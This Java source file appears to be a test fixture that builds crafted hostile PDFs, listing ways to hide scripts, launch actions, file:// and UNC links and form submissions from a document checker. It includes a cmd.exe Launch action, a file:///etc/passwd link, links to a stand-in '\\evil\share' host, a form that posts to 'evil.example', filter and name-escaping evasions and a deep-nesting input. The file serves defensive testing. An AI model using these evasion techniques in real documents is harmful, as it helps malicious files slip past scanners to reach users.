package city.pishkhan.archive.internal.examination;

import static city.pishkhan.archive.internal.SampleFiles.ascii;
import static city.pishkhan.archive.internal.SampleFiles.deflate;

import city.pishkhan.archive.internal.SampleFiles;
import java.util.LinkedHashMap;
import java.util.Map;

/** PDFs with scripts, embedded files or external references, hidden in different ways or not at all. */
final class HostilePdfs {
    private static final String CATALOG = "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>";
    private static final String SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>";
    private static final String TYPED = "/Type/ObjStm/N %N/First %F";

    private static final String ACT = "/S/URI/URI(javascript:alert\\(1\\))";
    private static final String LINK = "/Subtype/Link/Rect[0 0 9 9]/A<<" + ACT + ">>";

    private HostilePdfs() {}

    private static PdfFile packed(String dictionary, PdfFile.Packing packing) {
        return packed(dictionary, packing, SCRIPT);
    }

    private static PdfFile packed(String dictionary, PdfFile.Packing packing, String action) {
        return new PdfFile()
                .object(2, PdfFile.PAGES)
                .object(3, PdfFile.PAGE)
                .packed(9, dictionary, packing, Map.of(1, CATALOG, 4, action));
    }

    private static byte[] annotation(String annotation) {
        return PdfFile.page("/Annots[4 0 R]").object(4, annotation).table();
    }

    private static byte[] link(String action) {
        return PdfFile.linked(action);
    }

    private static byte[] packedTwice(String actions) {
        return packed(
                        TYPED + "/Filter/FlateDecode",
                        SampleFiles::deflate,
                        "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A" + actions + ">>")
                .references(true);
    }

    private static byte[] open(String action) {
        return PdfFile.of("/OpenAction" + action).table();
    }

    /**
     * Returns a page whose content is defined twice.
     *
     * @param section further section of the cross-reference table, with the position of the first content
     * @param last {@code true} if the table names the last content
     */
    private static byte[] twoContents(String section, boolean last) {
        PdfFile file = PdfFile.page("/Contents 4 0 R").stream(4, "", ascii("(approved) Tj"));
        int first = file.position(4);
        if (last) {
            file.stream(4, "", ascii("(refused) Tj"));
        } else {
            file.raw("4 0 obj\n<</Length 12>>\nstream\n(refused) Tj\nendstream\nendobj\n");
        }
        return file.sections(String.format(section, first));
    }

    static Map<String, byte[]> all() {
        Map<String, byte[]> all = new LinkedHashMap<>();
        // hostile PDFs that earlier versions of the checks accepted
        all.put(
                "names with escapes around packed objects",
                packed("/Type/ObjStm/N %N/First %F/F#69lter/Fl#61teDecode", SampleFiles::deflate)
                        .references(false));
        all.put(
                "predictor 12",
                packed(
                                TYPED + "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>",
                                plain -> deflate(PdfFile.up(plain, 8)))
                        .references(true));
        all.put(
                "a string behind the filter",
                packed("/Filter/FlateDecode/Note( obj )" + TYPED, SampleFiles::deflate)
                        .references(false));
        all.put(
                "a string that ends the dictionary",
                packed("/Type/ObjStm/Note( stream\n)/N %N/First %F/Filter/FlateDecode", SampleFiles::deflate)
                        .references(false));
        all.put(
                "a filter far before the type",
                packed("/Filter/FlateDecode/Note(" + "x".repeat(5_000) + ")" + TYPED, SampleFiles::deflate)
                        .references(false));
        all.put(
                "ASCII85",
                packed(TYPED + "/F#69lter/ASCII85Decode", PdfFile::ascii85).references(false));
        all.put(
                "ASCII85 of packed objects",
                packed(TYPED + "/F#69lter[/ASCII85Decode/Fl#61teDecode]", plain -> PdfFile.ascii85(deflate(plain)))
                        .references(false));
        all.put("a rendition with a script", open("<</S/Rendition/OP 0/JS(app.alert(1))>>"));
        all.put(
                "XFA",
                PdfFile.of("/AcroForm<</Fields[]/XFA 4 0 R>>").stream(
                                4,
                                "/Filter/FlateDecode",
                                deflate(ascii("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")))
                        .table());
        // further ways to hide active content
        all.put(
                "hexadecimal digits",
                packed(TYPED + "/Filter/ASCIIHexDecode", PdfFile::hex).references(false));
        all.put(
                "an object stream without a type",
                packed("/N %N/First %F/Filter/FlateDecode", SampleFiles::deflate)
                        .references(false));
        all.put(
                "an object stream of another type",
                packed("/Type/XObject/N %N/First %F/Filter/FlateDecode", SampleFiles::deflate)
                        .references(false));
        all.put(
                "a filter by reference",
                packed(TYPED + "/Filter 8 0 R", SampleFiles::deflate)
                        .object(8, "/FlateDecode")
                        .references(false));
        all.put(
                "a packed form with XFA",
                packed(TYPED + "/Filter/FlateDecode", SampleFiles::deflate, "<</Fields[]/XFA(x)>>")
                        .references(true));
        all.put("a script by its escaped name", open("<</S/J#61vaScript/J#53(app.alert(1))>>"));
        all.put(
                "XFA by its escaped name",
                PdfFile.of("/AcroForm<</Fields[]/X#46A(x)>>").table());
        all.put("a comment between slash and value", open("<</S%x\n/JavaScript%y\n/JS(app.alert(1))>>"));
        all.put(
                "a script when the page is shown",
                PdfFile.page("/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>").table());
        all.put("a script after a link", link("<</S/GoTo/D[3 0 R/Fit]/Next<</S/Hide/T(x)>>>>"));
        all.put("a list of actions after a link", link("<</S/GoTo/D[3 0 R/Fit]/Next[<</S/SetOCGState/State[/ON]>>]>>"));
        all.put("a command", link("<</S/Launch/F(cmd.exe)>>"));
        all.put("a link to a script", link("<</S/URI/URI(javascript:alert(1))>>"));
        all.put("a link that is two", link("<</S/URI/URI(javascript:alert(1))/URI(https://example.org)>>"));
        all.put(
                "a page with two lists of annotations",
                PdfFile.page("/Annots[<<" + LINK + ">>]/Annots[]").table());
        all.put(
                "an annotation of two kinds",
                annotation("<</Subtype/FileAttachment/FS(x.exe)/Rect[0 0 9 9]/Subtype/Link>>"));
        all.put(
                "a catalog with two page trees",
                PdfFile.of("/Pages<</Kids[<<" + LINK + ">>]>>").table());
        all.put(
                "an outline with two first entries",
                PdfFile.of("/Outlines<</First<<" + LINK + ">>/First 3 0 R>>").table());
        all.put(
                "a trailer with two roots",
                PdfFile.of("").table("/Root<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(file:///x)>>>>"));
        all.put("a packed link that is two", packedTwice("<</S/Rendition/OP 0/JS(x)>>/A<</S/URI/URI(https://a)>>"));
        all.put("a packed link of two kinds", packedTwice("<</S/Rendition/S/URI/URI(https://example.org)>>"));
        all.put(
                "a packed link that is two, after the end of an object",
                packedTwice("<<>>>> endobj <</A<</S/Rendition/JS(x)>>/A<</S/URI/URI(https://a)>>"));
        all.put(
                "a packed link to a script, that is also one to the web",
                packedTwice("<</S/URI/URI(javascript:alert\\(1\\))/URI(https://example.org)>>"));
        all.put(
                "a packed link with an escaped second address",
                packedTwice("<</S/URI/URI(file:///x)/#55RI(https://example.org)>>"));
        all.put(
                "a packed form with two XFA entries",
                packed(TYPED + "/Filter/FlateDecode", SampleFiles::deflate, "<</Fields[]/XFA(x)/XFA null>>")
                        .references(true));
        all.put(
                "a packed object that begins within a string",
                new PdfFile()
                        .object(2, PdfFile.PAGES)
                        .object(3, PdfFile.PAGE)
                        .packed(
                                9,
                                "/Type/ObjStm/N 2/First 9/Filter/FlateDecode",
                                plain -> deflate(ascii("1 0 4 43 "
                                        + "<</Type/Catalog/Pages 2 0 R/Lang(        "
                                        + " (<</S/URI/URI(file:///x)/URI(https://a)>>)) >>")),
                                Map.of(1, "", 4, ""))
                        .references(true));
        all.put(
                "one picture name for two pictures",
                PdfFile.page("/Resources<</XObject<</X 4 0 R/X 5 0 R>>>>").stream(
                                4, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]", ascii("q Q"))
                        .stream(5, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]", ascii("Q q"))
                        .table());
        all.put(
                "an earlier definition with a link to the disk",
                PdfFile.page("/Annots[<</Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]")
                        .object(4, "<</S/URI/URI(file:///x)>>")
                        .object(4, "<</S/URI/URI(https://example.org)>>")
                        .table());
        all.put(
                "an earlier address of a link",
                PdfFile.page("/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI 4 0 R>>>>]")
                        .object(4, "(file:///x)")
                        .object(4, "(https://example.org)")
                        .table());
        all.put(
                "an earlier annotation that only its place makes one",
                PdfFile.page("/Annots[4 0 R]")
                        .object(4, "<</Subtype/Screen/Rect[0 0 9 9]>>")
                        .object(4, "<</Subtype/Text/Rect[0 0 9 9]>>")
                        .table());
        all.put(
                "a link that no cross-reference names",
                PdfFile.of("")
                        .raw("7 0 obj\n<</S/URI/URI(file:///x)>>\nendobj\n")
                        .table());
        all.put(
                "a trailer that no cross-reference names",
                PdfFile.of("")
                        .raw("7 0 obj\n<</Type/Catalog/Pages 2 0 R/Execute<</What(x)>>>>\nendobj\n")
                        .raw("trailer\n<</Root 7 0 R>>\nstartxref\n0\n")
                        .table());
        all.put(
                "a packed definition that was replaced",
                new PdfFile()
                        .packed(
                                9,
                                TYPED + "/Filter/FlateDecode",
                                SampleFiles::deflate,
                                Map.of(1, "<</Type/Catalog/Pages 2 0 R/URI<</Base(file:///x)>>>>", 2, PdfFile.PAGES))
                        .object(1, "<</Type/Catalog/Pages 2 0 R>>")
                        .object(3, PdfFile.PAGE)
                        .references(true));
        all.put("a table that names the first of two contents", twoContents("", false));
        all.put("a table that names both contents", twoContents("4 1\n%010d 00000 n \n", true));
        all.put("an action in a list", annotation("<</Subtype/Link/Rect[0 0 9 9]/A[<<" + ACT + ">>]>>"));
        all.put(
                "an action behind two references",
                PdfFile.page("/Annots[<</Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]")
                        .object(4, "5 0 R")
                        .object(5, "<<" + ACT + ">>")
                        .table());
        all.put("a link to the disk", link("<</S/URI/URI(file:///etc/passwd)>>"));
        all.put("a link to another machine's folder", link("<</S/URI/URI(\\\\\\\\evil\\\\share)>>"));
        all.put("another file outside", link("<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"));
        all.put("another file inside", link("<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>"));
        all.put("an action that no standard has", link("<</S/Execute/What(x)>>"));
        all.put("printing when it is opened", open("<</S/Named/N/Print>>"));
        all.put("a form that imports", link("<</S/ImportData/F(data.fdf)>>"));
        all.put("a form that sends itself", link("<</S/SubmitForm/F(http://evil.example/)>>"));
        all.put("sound", annotation("<</Type/Annot/Subtype/Sound/Rect[0 0 9 9]/Sound 5 0 R>>"));
        all.put("a film", annotation("<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(x.avi)>>>>"));
        all.put("a 3D model", annotation("<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 5 0 R>>"));
        all.put("a screen", annotation("<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>"));
        all.put("an annotation without a kind", annotation("<</Rect[0 0 9 9]>>"));
        all.put("an attached file", annotation("<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(x)/EF<</F 5 0 R>>>>>>"));
        all.put(
                "a file that belongs to the document",
                PdfFile.of("/AF[<</Type/Filespec/F(x.xml)>>]").table());
        all.put("files in a folder", PdfFile.of("/Collection<</View/T>>").table());
        all.put(
                "a reader that has to run scripts",
                PdfFile.of("/Requirements[<</S/EnableJavaScripts>>]").table());
        all.put(
                "names of an unknown kind",
                PdfFile.of("/Names<</Renditions<</Names[]>>>>").table());
        all.put("a part of an unknown kind", PdfFile.of("/Execute<</What(x)>>").table());
        all.put(
                "a stream in another file",
                PdfFile.page("/Contents 4 0 R").stream(
                                4, "/F(\\\\\\\\evil\\\\share\\\\x)/FFilter/FlateDecode", new byte[0])
                        .table());
        all.put(
                "a picture in another file",
                PdfFile.page("/Resources<</XObject<</X 4 0 R>>>>").stream(
                                4, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</F(x)>>>>", new byte[0])
                        .table());
        all.put(
                "a page of another document",
                PdfFile.page("/Resources<</XObject<</X 4 0 R>>>>").stream(
                                4, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(x.pdf)/Page 0>>", new byte[0])
                        .table());
        all.put(
                "a PostScript program",
                PdfFile.page("/Resources<</XObject<</X 4 0 R>>>>").stream(
                                4, "/Type/XObject/Subtype/PS", ascii("(x) run"))
                        .table());
        all.put(
                "an unknown filter",
                PdfFile.page("/Contents 4 0 R").stream(4, "/Filter/Crypt", new byte[0])
                        .table());
        all.put("encryption", PdfFile.of("").table("/Encrypt<</Filter/Standard/V 1/R 2/O()/U()/P 0>>"));
        all.put(
                "an older revision with a form",
                PdfFile.of("")
                        .object(4, "<</Fields[]/XFA(x)>>")
                        .object(4, "<</Fields[]>>")
                        .table());
        all.put(
                "more pages than are named",
                new PdfFile()
                        .object(1, "<</Type/Catalog/Pages 2 0 R>>")
                        .object(2, "<</Type/Pages/Kids[3 0 R 4 0 R]/Count 1>>")
                        .object(3, PdfFile.PAGE)
                        .object(4, PdfFile.PAGE.replace("/Type/Page", ""))
                        .table());
        all.put(
                "pages in a circle",
                new PdfFile()
                        .object(1, "<</Type/Catalog/Pages 2 0 R>>")
                        .object(2, "<</Type/Pages/Kids[3 0 R 2 0 R]/Count 1>>")
                        .object(3, PdfFile.PAGE)
                        .table());
        all.put(
                "an endless nest",
                PdfFile.of("/PieceInfo 4 0 R").object(4, "[".repeat(100_000)).table());
        return all;
    }
}
